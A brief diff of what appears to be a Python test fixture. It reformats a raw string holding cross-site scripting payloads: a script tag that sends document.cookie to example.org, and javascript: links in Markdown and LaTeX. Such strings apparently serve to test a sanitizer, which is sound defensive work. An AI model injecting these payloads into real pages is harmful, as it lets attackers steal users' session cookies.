@@ -1,5 +1,6 @@
 # base: blank
-r"""<script>fetch("https://example.org/" + document.cookie)</script> [marks](javascript:alert(1)) $\href{javascript:alert(2)}{x}$"""
+r"""<script>fetch("https://example.org/" + document.cookie)</script>
+[marks](javascript:alert(1)) $\href{javascript:alert(2)}{x}$"""
 
 import json
 import os
